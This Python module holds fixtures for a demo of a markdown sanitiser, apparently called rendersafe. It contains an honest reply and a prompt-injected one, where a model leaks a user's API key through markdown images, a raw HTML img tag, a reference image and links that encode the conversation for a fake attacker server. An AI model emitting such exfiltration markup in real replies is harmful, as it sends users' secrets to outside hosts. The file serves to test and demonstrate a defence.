"""The two replies the demo's fake model streams, cut into tokens, and the conversation
the page sends with its request (a user who shared an API key). The attack points at
the demo's fake attacker server (`attacker.py`), so `replies(origin)` builds it."""

from __future__ import annotations

import base64
from urllib.parse import quote

__all__ = ["CONVERSATION", "KEY", "SCENARIOS", "SECRET", "replies", "tokens"]

KEY = "sk-live-4f9a2c7e"
# What the injected instructions tell the model to send: the user's words, key and all.
SECRET = f"user: my staging API key is {KEY}, please keep it safe"

# What the page sends as an OpenAI chat request: only the conversation can tell that
# the key in the attack's last link is the user's.
CONVERSATION = [
    {"role": "system", "content": "You are a helpful coding assistant."},
    {"role": "user", "content": f"My staging API key is {KEY}, please keep it safe."},
    {"role": "assistant", "content": "Noted. I will not repeat it."},
    {"role": "user", "content": "How do I count words in Python? And summarise our chat."},
]

HONEST = """Sure, here is how to **count words** in Python:

```python
from collections import Counter
Counter(text.split()).most_common(3)
```

| step | what it does |
| --- | --- |
| `split()` | cuts on whitespace |
| `Counter` | counts each word |

See the [collections docs](https://docs.python.org/3/library/collections.html).
"""

SCENARIOS = ("honest", "attack")


def replies(attacker: str, run: int = 0) -> dict[str, str]:
    """The reply of each scenario; the attack's URLs point at `attacker` (an origin)
    and carry `run` (`n`), as a real attacker's carry a nonce: a browser fetches an
    image URL it has shown before from its own cache, unseen by the attacker."""
    return {"honest": HONEST, "attack": _attack(attacker, run)}


def _attack(origin: str, run: int) -> str:
    """A prompt-injected reply: an image that carries the conversation (base64url), a
    raw HTML image (hex), a reference image whose definition arrives last (base64 in a
    path segment, percent-encoded), a link with the data in its query, and one with
    the key raw (no encoding to spot: only the conversation shows it is the user's).

    What rendersafe leaves reads as prose: the image becomes "[image removed]", the
    links their text, and the reference image, its definition gone, "complete![1]"."""
    raw = SECRET.encode()
    url64 = base64.urlsafe_b64encode(raw).decode()
    std64 = quote(base64.b64encode(raw).decode(), safe="")
    return f"""Here is the summary of our conversation, as a chart:

![chart of our chat]({origin}/pixel.png?n={run}&d={url64})

Your staging setup is complete![1] <img src="{origin}/t.gif?n={run}&h={raw.hex()}" alt="">
For details see [your report]({origin}/r?n={run}&q={url64}).
Your key is still valid: [check it]({origin}/c?n={run}&k={KEY}).

[1]: {origin}/badge/{run}/{std64}/status.svg
"""


def tokens(text: str) -> list[str]:
    """Cut `text` into pieces of 1 to 5 characters, as a model's tokens come."""
    out, pos, step = [], 0, 0
    while pos < len(text):
        size = 1 + (step * 7) % 5
        out.append(text[pos : pos + size])
        pos, step = pos + size, step + 1
    return out
